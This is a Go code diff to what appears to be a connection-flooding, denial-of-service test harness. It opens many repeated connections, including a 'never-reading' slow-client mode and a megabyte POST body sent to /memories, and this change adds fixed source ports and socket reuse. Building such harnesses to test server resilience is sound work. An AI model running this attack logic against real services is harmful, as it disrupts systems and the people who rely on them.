@@ -22,6 +22,11 @@ type Target struct {
 	Addr string
 	// From is the address that connections come from.
 	From string
+	// Ports is the first of the ports that an attack's connections come from, one
+	// for each; 0 leaves them to the kernel. It searches for a free one from the
+	// last: with thousands taken, that search costs the processors that attackers
+	// share with the attacked more than all the rest of an attack.
+	Ports int
 	// Key is the attacker's own.
 	Key string
 }
@@ -53,7 +58,7 @@ type attack struct {
 // been opened once.
 func Attack(ctx context.Context, k Kind, to Target, n int, open func()) Tally {
 	a := &attack{ctx: ctx, kind: k, to: to, did: Tally{Answers: map[string]int{}}}
-	a.megabyte = append([]byte(`{"messages":"`), bytes.Repeat([]byte("a"), Announced-14)...)
+	a.megabyte = append([]byte(a.head("POST /memories", Announced)+`{"messages":"`), bytes.Repeat([]byte("a"), Announced-14)...)
 	var all, begun sync.WaitGroup
 	for i := range n {
 		begun.Add(1)
@@ -62,7 +67,7 @@ func Attack(ctx context.Context, k Kind, to Target, n int, open func()) Tally {
 			defer once()
 			a.sleep(time.Duration(i) * time.Second / 2000)
 			for ctx.Err() == nil {
-				a.one(once)
+				a.one(i, once)
 				a.sleep(again)
 			}
 		})
@@ -75,11 +80,16 @@ func Attack(ctx context.Context, k Kind, to Target, n int, open func()) Tally {
 	return a.did
 }
 
-// one is one connection.
-func (a *attack) one(opened func()) {
-	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(a.to.From)}, Control: func(_, _ string, rc syscall.RawConn) error {
+// one is the i-th connection.
+func (a *attack) one(i int, opened func()) {
+	from := &net.TCPAddr{IP: net.ParseIP(a.to.From)}
+	if a.to.Ports > 0 {
+		from.Port = a.to.Ports + i
+	}
+	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: from, Control: func(_, _ string, rc syscall.RawConn) error {
 		return rc.Control(func(fd uintptr) {
-			if a.kind.Name == "never-reading" { // nor does its kernel take much in its place
+			_ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_REUSEADDR, 1) // the same port, again and again
+			if a.kind.Name == "never-reading" {                                             // nor does its kernel take much in its place
 				_ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4<<10)
 			}
 		})
